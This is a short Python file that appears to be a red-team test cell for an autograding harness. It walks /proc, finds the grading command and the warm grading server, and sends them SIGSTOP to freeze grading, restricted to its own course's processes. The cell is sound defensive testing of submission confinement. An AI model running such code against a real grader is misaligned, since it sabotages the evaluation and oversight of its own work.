# Red-team attack 12a (issue 7, issue 8): SIGSTOP the warm server and the grader.
# UNSAFE AGAINST AN UNCONFINED ENGINE: run only where submissions are confined (the harness
# refuses otherwise). This cell finds every process whose command line runs the warm server
# (`autograder.server`) or the grading command (`autograder grade`) and sends it SIGSTOP.
# It keeps to its own course: a process is hit only when it is one of this cell's ancestors
# or works in the same folder as one of them, so other courses on the machine are spared.

SIGNAL_NAME = "SIGSTOP"


def _ancestors():
    import os

    found, pid = [], os.getppid()
    while pid > 1:
        found.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return found


def _grading_processes():
    import os

    ancestors = _ancestors()
    matched = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                args = handle.read().split(b"\0")
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except Exception:
            continue
        grader = b"autograder" in args and b"grade" in args
        if grader or any(b"autograder.server" in arg for arg in args):
            matched[int(entry)] = (grader, cwd)
    # Only this course's grading: an ancestor, or a process in an ancestor's folder.
    folders = {cwd for pid, (_, cwd) in matched.items() if pid in ancestors}
    targets = [(not grader, pid) for pid, (grader, cwd) in matched.items()
               if pid in ancestors or cwd in folders]
    return [pid for _, pid in sorted(targets)]  # the grader first, then the servers


def _stop_them():
    import os
    import signal

    for pid in _grading_processes():
        try:
            os.kill(pid, getattr(signal, SIGNAL_NAME))
        except Exception:
            pass


try:
    _stop_them()
except Exception:
    pass
